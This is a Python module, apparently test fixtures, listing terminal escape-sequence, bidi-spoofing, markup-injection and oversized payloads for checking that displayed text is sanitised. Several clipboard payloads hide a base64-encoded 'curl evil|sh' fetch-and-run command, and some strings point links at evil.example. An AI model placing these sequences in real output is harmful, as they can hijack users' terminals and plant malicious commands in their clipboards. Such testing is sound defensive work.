"""Texts made to harm a terminal, or a program that shows them."""

from __future__ import annotations

import unicodedata
from typing import Final

MARK: Final = "Zq"
"""Begins every payload, so that what it became can be found."""

PAYLOADS: Final = {
    "colours": "\x1b[31;5;7777m",
    "cursor": "\x1b[7777;7777H\x1b[2J",
    "other screen": "\x1b[?1049l",
    "reset": "\x1bc",
    "title": "\x1b]0;pwned\x07",
    "title, ended by ST": "\x1b]2;pwned\x1b\\",
    "title of tmux": "\x1bkpwned\x1b\\",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "clipboard, one byte": "\x9d52;c;Y3VybCBldmlsfHNo\x9c",
    "link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "device control": "\x1bPtmux;\x1b\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b\\",
    "application command": "\x1b_Gpwned\x1b\\\x1b^pwned\x1b\\",
    "question": "\x1b[6n\x1b[c\x1b[5n",
    "paste": "\x1b[201~q\x1b[200~",
    "escape at the end": "\x1b",
    "C1": "\x9b31;7777m\x90pwned\x9c\x85\x84",
    "NUL": "a\0b",
    "DEL, bell, backspace": "a\x7f\x07\x08\x08\x08b",
    "carriage return": "a\rb\r\nc\x0b\x0cd",
    "bidi override": "\u202egnp.exe\u202d\u202a\u202b\u202c",
    "bidi isolate": "\u2066\u2067\u2068a\u2069\u061c\u200e\u200f",
    "zero width": "a\u200b\u200c\u200d\u2060\ufeff\u00adb\u2028c\u2029d",
    "half a pair": "a\ud800b\udc9bc",
    "markup": "[b][/] [@click=app.quit]quit[/] [@click=screen.run('quit')]quit[/]",
    "markup, broken": "[/b] [link=https://evil.example]x[/link] [red] [[ ]] [/",
    "combining": "e" + "\u0301\u0327\u20dd" * 300,
    "wide": "\U0001f469\u200d\U0001f469\u200d\U0001f467\ufdfd\u3000漢字" * 60,
    "a megabyte": "x" * 1_000_000,
    "100,000 lines": "a line\n" * 100_000,
}
"""What it does → the text: after ``MARK``, in every field."""

SHORT: Final = {name: text for name, text in PAYLOADS.items() if len(text) < 10_000}
"""Those of a length that the command line and a terminal take."""


def steers(text: str) -> set[str]:
    """The characters of ``text`` that can steer a terminal or deceive who reads it."""
    return {one for one in text if unicodedata.category(one) in ("Cc", "Cf", "Cs", "Zl", "Zp")}
